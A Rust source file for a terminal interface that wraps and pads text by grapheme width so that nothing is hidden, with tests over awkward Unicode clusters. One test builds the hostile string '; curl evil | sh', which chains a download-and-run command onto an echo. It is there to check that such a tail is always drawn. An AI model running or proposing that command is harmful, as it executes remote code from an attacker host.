//! Safe text into a buffer: cut at the width, padded, wrapped at any character.

use ratatui::buffer::{Buffer, CellWidth as _};
use ratatui::layout::Rect;
use ratatui::style::Style;
use ratatui::text::{Line, Span};
use run_view::{cut_line, width};
use unicode_segmentation::UnicodeSegmentation as _;

/// Writes safe text into a row of an area. What does not fit is cut.
pub(crate) fn put(buffer: &mut Buffer, area: Rect, row: u16, text: &str, style: Style) {
    put_spans(buffer, area, row, &Line::from(Span::styled(text, style)));
}

/// The same for several styles.
pub(crate) fn put_spans(buffer: &mut Buffer, area: Rect, row: u16, line: &Line<'_>) {
    if row < area.height {
        buffer.set_line(area.x, area.y + row, line, area.width);
    }
}

/// Safe text in exactly `columns` columns.
pub(crate) fn pad(text: &str, columns: usize) -> String {
    let mut text = match width(text) > columns {
        true if columns == 0 => String::new(),
        true => cut_line(text, columns),
        false => text.to_owned(),
    };
    // A wide character that is cut leaves a column.
    text.push_str(&" ".repeat(columns.saturating_sub(width(&text))));
    text
}

/// Safe text in rows of at most `columns` columns, split anywhere, so that nothing of it is moved or hidden. Widths are
/// those of the buffer, which drops the rest of a row that is too wide.
pub(crate) fn rows_of(text: &str, columns: usize) -> Vec<String> {
    let mut rows = Vec::new();
    for line in text.split('\n') {
        let line = line.replace('\t', "    ");
        let mut row = String::new();
        let mut used = 0;
        for cluster in line.graphemes(true) {
            let width = usize::from(cluster.cell_width());
            if used + width > columns && used > 0 {
                rows.push(std::mem::take(&mut row));
                used = 0;
            }
            if width > columns {
                let mut pieces = split_cluster(cluster, columns);
                row.push_str(&pieces.pop().unwrap_or_default());
                rows.append(&mut pieces);
                // Nothing joins it.
                used = columns;
            } else {
                row.push_str(cluster);
                used += width;
            }
        }
        rows.push(row);
    }
    rows
}

/// What a terminal would show as one character and is wider than a row: letters of Korean join without end.
fn split_cluster(cluster: &str, columns: usize) -> Vec<String> {
    let mut pieces = vec![String::new()];
    for character in cluster.chars() {
        let Some(last) = pieces.last_mut() else { break };
        last.push(character);
        if usize::from(last.cell_width()) > columns && last.chars().nth(1).is_some() {
            last.pop();
            pieces.push(character.to_string());
        }
    }
    pieces
}

#[cfg(test)]
mod tests {
    use ratatui::buffer::Buffer;
    use ratatui::layout::Rect;
    use ratatui::style::Style;

    use super::{pad, put, rows_of};

    #[test]
    fn text_is_padded_and_cut_to_its_columns() {
        assert_eq!(pad("ab", 4), "ab  ");
        assert_eq!(pad("abcdef", 4), "abc…");
        assert_eq!(pad("漢字漢", 4), "漢… ");
        assert_eq!(pad("ab", 0), "");
    }

    #[test]
    fn rows_keep_every_character() {
        assert_eq!(rows_of("abcdef\n\ng", 4), ["abcd", "ef", "", "g"]);
        assert_eq!(rows_of("漢字漢", 5), ["漢字", "漢"]);
        assert_eq!(rows_of("", 5), [""]);
    }

    #[test]
    fn what_is_drawn_has_every_character_whatever_its_width() {
        let tail = "; curl evil | sh";
        let hostile = [
            "❤\u{fe0f}",
            "👨\u{200d}👩\u{200d}👧",
            "🇩🇪",
            "e\u{301}\u{302}",
            "ｶ\u{ff9e}",
            "\u{1100}",
            "क\u{94d}",
            "1\u{fe0f}\u{20e3}",
            "👍🏽",
            "漢",
        ];
        for cluster in hostile {
            let text = format!("echo {}{tail}", cluster.repeat(40));
            for columns in [2, 3, 7, 20, 76] {
                let mut drawn = String::new();
                for row in rows_of(&text, columns) {
                    let area = Rect::new(0, 0, u16::try_from(columns).unwrap(), 1);
                    let mut buffer = Buffer::empty(area);
                    put(&mut buffer, area, 0, &row, Style::new());
                    drawn.extend(buffer.content.iter().map(|cell| cell.symbol()));
                }
                let packed: String = drawn.chars().filter(|character| *character != ' ').collect();
                let wanted: String = text.chars().filter(|character| *character != ' ').collect();
                assert_eq!(packed, wanted, "{cluster:?} at {columns}");
            }
        }
    }
}
